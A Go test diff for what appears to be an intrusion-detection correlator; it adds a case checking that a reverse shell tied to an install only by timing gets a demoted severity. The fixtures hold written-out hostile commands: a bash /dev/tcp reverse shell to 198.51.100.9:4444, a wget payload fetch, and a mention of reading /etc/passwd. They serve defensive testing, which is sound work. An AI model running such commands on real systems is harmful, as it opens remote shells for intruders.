@@ -36,6 +36,15 @@ func TestCorroborate(t *testing.T) {
 			rm.exe = "/usr/bin/rm"
 			s.exec(12, rm, "rm", "-f", "/tmp/plugin.tgz")
 		}, detect.SeverityMedium},
+		{"a reverse shell of another shell, tied by time alone", func(s *sim, sh who) {
+			// the same server's child a second later, in the same folder:
+			// joined to the install by time (the web account's rule), not
+			// by evidence (kiln-photourl: students' links fetched beside
+			// a scanner's file:///etc/passwd)
+			other := shellOf(310, worker2, "/var/www/html/admin")
+			s.find(s.exec(11, other, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
+				detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+		}, detect.SeverityMedium},
 		{"another staging act is no corroboration", func(s *sim, sh who) {
 			f := s.find(s.exec(13, child(304, sh), "sh", "-c", "wget -q -O /tmp/x.tgz http://192.0.2.7/x.tgz"),
 				detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
@@ -48,11 +57,14 @@ func TestCorroborate(t *testing.T) {
 			if got.Severity != c.want {
 				t.Fatalf("severity %s, want %s (reason: %s)", got.Severity, c.want, got.Reason)
 			}
-			if demoted := got.Severity < f.Severity; demoted != strings.Contains(got.Reason, "nothing in its chain shows intent") {
+			if demoted := got.Severity < f.Severity; demoted != (strings.Contains(got.Reason, "nothing in its chain shows intent") || strings.Contains(got.Reason, "by time alone")) {
 				t.Errorf("reason %q does not say why it was kept at %s", got.Reason, got.Severity)
 			}
 			if f.Severity != detect.SeverityHigh {
 				t.Error("Build changed its input finding")
+			}
+			if strings.Contains(c.name, "by time alone") && !strings.Contains(got.Reason, "by time alone") {
+				t.Errorf("reason %q: want the time-only tie said", got.Reason)
 			}
 		})
 	}
